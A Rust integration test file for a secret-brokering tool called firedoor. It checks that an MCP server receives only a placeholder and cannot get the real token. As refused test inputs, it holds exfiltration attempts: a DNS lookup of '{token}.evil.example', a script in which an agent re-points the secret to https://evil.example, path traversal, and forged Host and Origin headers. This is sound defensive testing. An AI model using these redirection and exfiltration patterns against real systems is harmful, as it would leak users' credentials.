//! Broker mode: a server uses its service, over TLS, with a secret that it never has.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::{
    fs,
    io::Write as _,
    path::{Path, PathBuf},
};

use firedoor_tests::{Client, Home, Keychain, Service, descendants, kill, text, until};
use nix::sys::signal::Signal;
use serde_json::{Value, json};

const TOKEN: &str = "ghp_MadeUpForThisTest000000000000000007";
const ENTRY: &str = "cursor/user/s";

/// A protected server with a secret in the keychain.
fn protected(home: &Home) {
    let mut entry = home.entry("spending_server.py", &[]);
    entry["env"] = json!({"SERVICE_TOKEN": TOKEN});
    home.cursor(json!({"s": entry}));
    home.protect();
}

/// The authority of a service is trusted by engines that start from now on.
fn trusts(home: &Home, service: &str) {
    let path = home.path().join(service).join("ca.pem");
    home.write(".config/firedoor/config.toml", format!("[broker]\ncertificates = {path:?}\n"));
}

/// The secret in broker mode.
fn brokered(home: &Home, service: &Service) {
    brokered_trusting(home, service, "service");
}

fn brokered_trusting(home: &Home, service: &Service, authority: &str) {
    trusts(home, authority);
    protected(home);
    let (variable, url) = ("SERVICE_BASE_URL", service.url("/v1"));
    home.firedoor(&["broker", "add", ENTRY, "SERVICE_TOKEN", "--variable", variable, "--url", &url]).expect_code(0);
}

/// What the client starts: with the variables of its entry.
fn open(home: &Home, server: &str) -> Client {
    let mut client = Client::start(home, &configured(home, server));
    client.initialize();
    client
}

fn configured(home: &Home, server: &str) -> Vec<String> {
    let all: Value = serde_json::from_slice(&fs::read(home.path().join(".cursor/mcp.json")).unwrap()).unwrap();
    let env = all["mcpServers"][server]["env"].as_object().into_iter().flatten();
    let env = env.map(|(name, value)| format!("{name}={}", value.as_str().unwrap()));
    std::iter::once("env".to_owned()).chain(env).chain(home.command_line(server)).collect()
}

fn variable(client: &mut Client, name: &str) -> String {
    text(&client.call("variable", json!({"name": name}))).0
}

#[track_caller]
fn request(client: &mut Client, order: Value) -> Value {
    serde_json::from_str(&text(&client.call("shop", order)).0).unwrap()
}

fn bearer() -> Value {
    json!({"Authorization": "Bearer {token}"})
}

/// Whether the log has a finding of this detector, and never the secret.
#[track_caller]
fn found(home: &Home, detector: &str, place: &str) {
    until(detector, || {
        let log = home.firedoor(&["log", "--json"]).expect_code(0).stdout;
        assert!(!log.contains(TOKEN), "{log}");
        log.lines().any(|row| row.contains(detector) && row.contains(place)).then_some(())
    });
}

fn holds(pid: i32, text: &str) -> bool {
    ["cmdline", "environ"].iter().any(|name| {
        let bytes = fs::read(format!("/proc/{pid}/{name}")).unwrap_or_default();
        bytes.windows(text.len()).any(|window| window == text.as_bytes())
    })
}

#[test]
fn a_server_uses_its_service_with_a_secret_that_it_never_has() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let mut client = open(&home, "s");
    let (placeholder, base) = (variable(&mut client, "SERVICE_TOKEN"), variable(&mut client, "SERVICE_BASE_URL"));
    assert!(
        placeholder.starts_with("firedoor-broker-") && base.starts_with("http://127.0.0.1:"),
        "{placeholder} {base}"
    );

    let body = r#"{"a":1}"#;
    let order = json!({"method": "POST", "path": "{base}/me?x=%20", "headers": bearer(), "body": body});
    let answer = request(&mut client, order);
    assert_eq!((&answer["status"], &answer["body"]), (&json!(200), &json!(r#"{"ok": true}"#)), "{answer}");
    let seen = service.next();
    assert_eq!((&seen["method"], &seen["path"], &seen["body"]), (&json!("POST"), &json!("/v1/me?x=%20"), &json!(body)));
    assert_eq!(seen["headers"]["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(seen["headers"]["host"], format!("127.0.0.1:{}", service.port));
    // Whoever needs no credential sends none.
    assert_eq!(request(&mut client, json!({}))["status"], 200);
    assert_eq!(service.next()["headers"]["authorization"], Value::Null);

    // No process has it in its arguments or environment, the server and what puts it in among them.
    let all: Vec<i32> = home.engine().into_iter().chain(descendants(client.pid())).collect();
    assert!(all.len() >= 5, "engine, shim, two guardians, server and what puts the secret in: {all:?}");
    assert!(all.iter().all(|pid| !holds(*pid, TOKEN)));
    assert_eq!(all.iter().filter(|pid| holds(**pid, &placeholder)).count(), 1);

    // The next start has others.
    let mut other = open(&home, "s");
    assert_ne!(variable(&mut other, "SERVICE_TOKEN"), placeholder);
    assert_ne!(variable(&mut other, "SERVICE_BASE_URL"), base);
    // And the placeholder of one is nothing to the other.
    let stolen = json!({"headers": {"Authorization": format!("Bearer {placeholder}")}});
    let id = other.send_call("shop", stolen);
    let asked = until("a question", || home.pending().pop());
    assert!(asked.to_string().contains("broker/placeholder"), "{asked}");
    home.firedoor(&["answer", asked["id"].as_str().unwrap(), "allow"]).expect_code(0);
    let answer: Value = serde_json::from_str(&text(&other.answer(id)["result"]).0).unwrap();
    assert_eq!(answer["status"], 403, "{answer}");
    service.saw_nothing();
    other.end();

    // It ends with its server.
    let port: u16 = base.trim_start_matches("http://127.0.0.1:").split('/').next().unwrap().parse().unwrap();
    let listens = || std::net::TcpStream::connect(("127.0.0.1", port)).is_ok();
    assert!(listens());
    assert_eq!(client.end(), 0);
    until("nothing listens any more", || (!listens()).then_some(()));
}

/// An `npx` whose installs wait: they bring a server, once the file `go` lies beside `waits`.
fn slow_npx(home: &Home) {
    let source = |name: &str| fs::read_to_string(home.script(name)).unwrap();
    let server = source("spending_server.py").replace("/usr/bin/env python3", home.python().to_str().unwrap());
    let modules = json!({
        ".package-lock.json": r#"{"packages":{"node_modules/srv":{"version":"1.2.3","integrity":"sha512-AA"}}}"#,
        "srv/package.json": r#"{"bin":"srv.py"}"#,
        ".bin/srv": server,
        ".bin/stdio_mcp.py": source("stdio_mcp.py"),
    });
    let npx = format!(
        r#"#!{}
import json, os, pathlib, time
pathlib.Path("waits").touch()
while not os.path.exists("go"):
    time.sleep(0.02)
for name, text in json.loads({}).items():
    path = pathlib.Path(os.environ["npm_config_cache"], "_npx/abc/node_modules", name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
"#,
        home.python().display(),
        json!(modules.to_string()),
    );
    let path = home.program("npx");
    fs::write(&path, npx).unwrap();
    home.set_mode(&path, 0o755);
}

/// The file of this name, wherever it lies.
fn find(directory: &Path, name: &str) -> Option<PathBuf> {
    let entries: Vec<_> = fs::read_dir(directory).ok()?.flatten().collect();
    let here = entries.iter().find(|entry| entry.file_name() == name).map(fs::DirEntry::path);
    let directories = || entries.iter().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir()));
    here.or_else(|| directories().find_map(|entry| find(&entry.path(), name)))
}

#[test]
fn what_the_user_says_of_secrets_while_a_server_is_installed_counts() {
    let home = Home::new();
    let _keychain = Keychain::start(&home);
    slow_npx(&home);
    home.cursor(json!({"s": {"command": "npx", "args": ["-y", "srv"], "env": {"SERVICE_TOKEN": TOKEN}}}));
    home.protect();
    let mut client = Client::start(&home, &configured(&home, "s"));
    let id = client.request("initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}}));
    let waits = until("the install", || find(&home.path(), "waits"));
    let more = ["--variable", "SERVICE_BASE_URL", "--url", "https://service.example/v1"];
    home.firedoor(&[["broker", "add", ENTRY, "SERVICE_TOKEN"], more].concat()).expect_code(0);
    fs::write(waits.with_file_name("go"), "").unwrap();
    let answer = client.answer(id);
    assert!(answer["result"].is_object(), "{answer}");
    let given = variable(&mut client, "SERVICE_TOKEN");
    assert!(given.starts_with("firedoor-broker-"), "{given}");
}

#[test]
fn what_the_user_says_of_secrets_while_a_start_waits_for_the_keychain_counts() {
    let home = Home::new();
    let keychain = Keychain::start(&home);
    protected(&home);
    keychain.hold(true);
    let mut client = Client::start(&home, &configured(&home, "s"));
    let id = client.request("initialize", json!({"protocolVersion": "2025-11-25", "capabilities": {}}));
    let more = ["--variable", "SERVICE_BASE_URL", "--url", "https://service.example/v1"];
    home.firedoor(&[["broker", "add", ENTRY, "SERVICE_TOKEN"], more].concat()).expect_code(0);
    keychain.hold(false);
    let answer = client.answer(id);
    assert!(answer["result"].is_object(), "{answer}");
    let given = variable(&mut client, "SERVICE_TOKEN");
    assert!(given.starts_with("firedoor-broker-"), "{given}");
}

#[test]
fn what_the_service_says_of_the_secret_does_not_reach_the_server() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let elsewhere = Service::start(&home, "elsewhere");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let mut client = open(&home, "s");
    let base = variable(&mut client, "SERVICE_BASE_URL");
    let mut get = |path: &str| {
        let answer = request(&mut client, json!({"path": format!("{{base}}{path}"), "headers": bearer()}));
        assert!(!answer.to_string().contains(TOKEN), "{answer}");
        answer
    };
    let answer = get("/echo");
    assert_eq!((&answer["status"], &answer["headers"]["x-echo"]), (&json!(200), &json!("*".repeat(TOKEN.len()))));
    let body: Value = serde_json::from_str(answer["body"].as_str().unwrap()).unwrap();
    assert_eq!((&body["plain"], &body["hex"]), (&json!("*".repeat(TOKEN.len())), &json!("*".repeat(2 * TOKEN.len()))));
    let pair = body["pair"].as_str().unwrap();
    // "user:" is the server's own; what of it shares a letter with the secret may stay.
    assert!(pair.starts_with("dXNlc") && pair.matches('*').count() >= pair.len() - 10, "{pair}");
    assert_eq!(get("/cut")["body"], format!("<{}>", "*".repeat(TOKEN.len())));
    found(&home, "broker/echo", "the body of an answer");
    found(&home, "broker/echo", "a header of an answer");
    // What cannot be looked through does not pass.
    let answer = get("/zip");
    assert!(answer["status"] == 502 && answer["body"].as_str().unwrap().contains("compresses"), "{answer}");
    // A redirect is not followed; one within the service leads here again.
    let answer = get("/moved");
    assert_eq!(
        (&answer["status"], &answer["headers"]["location"]),
        (&json!(307), &json!(format!("{base}/me?moved=1")))
    );
    let answer = get(&format!("/away?{}", elsewhere.url("/v1/echo")));
    assert_eq!((&answer["status"], &answer["headers"]["location"]), (&json!(302), &json!(elsewhere.url("/v1/echo"))));
    elsewhere.saw_nothing();
}

#[test]
fn what_does_not_belong_is_refused_and_reaches_no_service() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let mut client = open(&home, "s");
    let mut check = |order: Value, status: u16| {
        let answer = request(&mut client, order.clone());
        assert_eq!(answer["status"], status, "{order}: {answer}");
        service.saw_nothing();
    };
    let host = |name: &str| json!({"Authorization": "Bearer {token}", "Host": name});
    // Where a placeholder does not belong.
    check(json!({"path": "{base}/me?key={token}"}), 403);
    found(&home, "broker/placeholder", "the address of a request");
    check(json!({"headers": {"X-Other": "{token}"}}), 403);
    found(&home, "broker/placeholder", "a header that is not for the credential");
    // Another credential than the user's own, and requests that would be answered with it.
    check(json!({"headers": {"Authorization": "Bearer somebody-elses"}}), 403);
    found(&home, "broker/other-credential", "the header for the credential");
    check(json!({"method": "TRACE", "headers": bearer()}), 405);
    // Outside of the service's address, without the path, from a page.
    check(json!({"path": "{base}/../admin", "headers": bearer()}), 404);
    check(json!({"path": "{base}/%2e%2e/admin", "headers": bearer()}), 404);
    check(json!({"path": "/me", "headers": bearer()}), 404);
    check(json!({"path": "{base}x/me", "headers": bearer()}), 404);
    check(json!({"headers": host("evil.example")}), 403);
    check(json!({"headers": {"Origin": "https://evil.example"}}), 403);
    check(json!({"headers": {"Origin": "null"}}), 403);
    // A body is looked through as it passes; of this one the service gets no end.
    let post = |pieces: Value| json!({"method": "POST", "headers": bearer(), "pieces": pieces});
    let answer = request(&mut client, post(json!(["{\"key\": \"", "{token}", "\"}"])));
    assert!(answer["status"] == 403 || answer["error"].is_string(), "{answer}");
    found(&home, "broker/placeholder", "the body of a request");
    let _ = service.seen.try_iter().count();
    assert_eq!(request(&mut client, post(json!(["one ", "two"])))["status"], 200);
    assert_eq!(service.next()["body"], "one two");
    // The way around is closed.
    assert!(text(&client.call("tcp", json!({"port": service.port}))).0.starts_with("denied"));
    client.call("look_up", json!({"name": "{token}.evil.example"}));
    found(&home, "broker/placeholder", "/target");
}

#[test]
fn answers_come_as_the_service_gives_them() {
    let home = Home::new();
    let mut service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let mut client = open(&home, "s");
    // The second event waits until the first one has arrived.
    let order = json!({"path": "{base}/events", "headers": bearer(), "first": true});
    assert_eq!(request(&mut client, order), json!({"status": 200, "body": "data: one\n\n"}));
    service.stdin.write_all(b"go on\n").unwrap();
    let answer = request(&mut client, json!({"path": "{base}/events", "headers": bearer()}));
    assert_eq!(answer["body"], "data: one\n\ndata: two\n\n");
    let answer = request(&mut client, json!({"method": "HEAD", "headers": bearer()}));
    assert_eq!((&answer["status"], &answer["headers"]["content-length"]), (&json!(200), &json!("12")));
}

#[test]
fn only_its_own_server_reaches_a_listener_and_engines_may_die_meanwhile() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    trusts(&home, "service");
    let mut entry = home.entry("spending_server.py", &[]);
    let plain = entry.clone();
    entry["env"] = json!({"SERVICE_TOKEN": TOKEN});
    home.cursor(json!({"s": entry, "other": plain}));
    home.protect();
    let (variable_name, url) = ("SERVICE_BASE_URL", service.url("/v1"));
    home.firedoor(&["broker", "add", ENTRY, "SERVICE_TOKEN", "--variable", variable_name, "--url", &url])
        .expect_code(0);
    let mut client = open(&home, "s");
    let base = variable(&mut client, "SERVICE_BASE_URL");
    let port: u16 = base.trim_start_matches("http://127.0.0.1:").split('/').next().unwrap().parse().unwrap();
    let mut other = open(&home, "other");
    assert!(text(&other.call("tcp", json!({"port": port}))).0.starts_with("denied"));
    assert_eq!(text(&client.call("tcp", json!({"port": port}))).0, "connected");
    other.end();

    let engine = home.engine().unwrap();
    kill(engine, Signal::SIGKILL);
    until("another engine", || home.engine().filter(|pid| *pid != engine));
    assert_eq!(request(&mut client, json!({"headers": bearer()}))["status"], 200);
    assert_eq!(service.next()["headers"]["authorization"], format!("Bearer {TOKEN}"));
    // What is noticed then is on record, too.
    assert_eq!(request(&mut client, json!({"headers": {"X-Other": "{token}"}}))["status"], 403);
    found(&home, "broker/placeholder", "a header that is not for the credential");
}

#[test]
fn a_service_that_is_not_who_it_should_be_gets_nothing() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    Service::start(&home, "elsewhere");
    let _keychain = Keychain::start(&home);
    // Another authority is trusted than that of the service, and what the client's environment says does not count.
    home.set("NODE_EXTRA_CA_CERTS", home.path().join("service/ca.pem").to_str().unwrap());
    brokered_trusting(&home, &service, "elsewhere");
    let mut client = open(&home, "s");
    let answer = request(&mut client, json!({"headers": bearer()}));
    assert!(answer["status"] == 502 && answer["body"].as_str().unwrap().starts_with("firedoor: "), "{answer}");
    service.saw_nothing();
}

/// Starts a server that is refused, and returns why.
#[track_caller]
fn refused(home: &Home, line: &[String]) -> String {
    let mut client = Client::start(home, line);
    let id = client.request("initialize", json!({}));
    let why = client.answer(id)["error"]["message"].to_string();
    client.end();
    why
}

#[test]
fn broker_mode_is_a_choice_of_the_user_and_needs_the_keychain() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let mut keychain = Keychain::start(&home);
    brokered(&home, &service);
    let add = |more: &[&str]| home.firedoor(&[&["broker", "add", ENTRY], more].concat());
    add(&[]).expect_code(2).expect_said("--variable and --url");
    add(&["OTHER"]).expect_code(2).expect_said("it has SERVICE_TOKEN");
    let with = |url: &str| add(&["SERVICE_TOKEN", "--variable", "SERVICE_BASE_URL", "--url", url]);
    with("http://127.0.0.1:1/").expect_code(2).expect_said("https://");
    home.firedoor(&["broker", "add", "cursor/user/none"]).expect_code(2).expect_said("no secret that Firedoor keeps");
    let listed = home.json(&["broker", "list"]);
    let want = json!([{"entry": ENTRY, "secret": "SERVICE_TOKEN", "variable": "SERVICE_BASE_URL",
        "url": service.url("/v1"), "header": "authorization", "intercept": false}]);
    assert_eq!(listed["broker"], want, "{listed}");
    let secrets = home.firedoor(&["secrets", "list"]).expect_code(0);
    secrets.expect_said(&format!("in broker mode for {}", service.url("/v1")));
    assert_eq!(home.json(&["secrets", "list"])["secrets"][0]["only_to"], service.url("/v1"));

    // An entry that says another address for its service is not overruled in silence.
    let line = configured(&home, "s");
    let mut elsewhere = line.clone();
    elsewhere.insert(1, "SERVICE_BASE_URL=https://elsewhere.example/v1".into());
    assert!(refused(&home, &elsewhere).contains("another address"));
    // Without the reference there is nothing to put in.
    let without = home.command_line("s");
    assert!(refused(&home, &without).contains("firedoor broker remove"));
    keychain.lock();
    assert!(refused(&home, &line).contains("locked"));
    keychain.unlock();

    home.firedoor(&["broker", "remove", ENTRY, "SERVICE_TOKEN"]).expect_code(0);
    home.firedoor(&["broker", "remove", ENTRY, "SERVICE_TOKEN"]).expect_code(1).expect_said("firedoor broker list");
    let mut client = open(&home, "s");
    assert_eq!(variable(&mut client, "SERVICE_TOKEN"), TOKEN);
    client.end();
}

#[test]
fn an_agent_cannot_lead_a_secret_elsewhere() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let go = home.path().join("go");
    // What the client starts beside its server, once it has a session.
    let script = format!(
        "(until [ -e {go} ]; do sleep 0.05; done; exec >&2\n\
         {firedoor} broker add {ENTRY} SERVICE_TOKEN --variable SERVICE_BASE_URL --url https://evil.example; echo \"add $?\"\n\
         {firedoor} broker remove {ENTRY} SERVICE_TOKEN; echo \"remove $?\") &\n\"$@\"\nexit $?\n",
        go = go.display(),
        firedoor = home.program("firedoor").display()
    );
    let mut client = Client::start_in(&home, &script, &configured(&home, "s"));
    client.initialize();
    fs::write(&go, "").unwrap();
    until("both were tried", || client.log().contains("remove ").then_some(()));
    assert!(client.log().contains("add 1\n") && client.log().contains("remove 1\n"), "{}", client.log());
    assert_eq!(home.json(&["broker", "list"])["broker"][0]["url"], service.url("/v1"));
    client.end();
}

#[test]
fn a_placeholder_in_a_call_or_a_result_is_found() {
    let home = Home::new();
    let service = Service::start(&home, "service");
    let _keychain = Keychain::start(&home);
    brokered(&home, &service);
    let mut client = open(&home, "s");
    let placeholder = variable(&mut client, "SERVICE_TOKEN");
    found(&home, "broker/placeholder", "The result holds");
    let id = client.send_call("note", json!({"text": format!("it is {placeholder}")}));
    let asked = until("a question", || home.pending().pop());
    assert!(asked.to_string().contains("broker/placeholder"), "{asked}");
    home.firedoor(&["answer", asked["id"].as_str().unwrap(), "block"]).expect_code(0);
    assert!(client.answer(id).to_string().contains("Firedoor"), "it is refused");
}
